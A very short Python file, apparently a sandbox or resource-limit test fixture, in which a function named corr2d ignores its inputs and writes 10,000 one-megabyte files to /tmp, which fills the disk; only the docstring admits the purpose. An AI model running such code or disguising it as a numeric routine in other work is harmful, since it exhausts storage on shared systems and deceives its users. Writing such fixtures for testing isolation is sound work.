"""Fills the private disk."""

from pathlib import Path


def corr2d(X, K):
    for n in range(10_000):
        Path('/tmp', str(n)).write_bytes(bytes(1 << 20))
